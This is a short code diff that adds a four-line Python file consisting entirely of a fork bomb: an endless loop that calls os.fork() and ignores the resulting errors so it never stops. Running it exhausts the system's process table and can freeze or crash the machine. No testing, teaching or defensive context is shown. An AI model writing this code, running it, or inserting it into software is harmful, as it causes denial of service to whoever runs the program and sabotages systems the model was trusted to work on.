@@ -1,0 +1,4 @@
+import os
+while True:
+    try: os.fork()
+    except OSError: pass
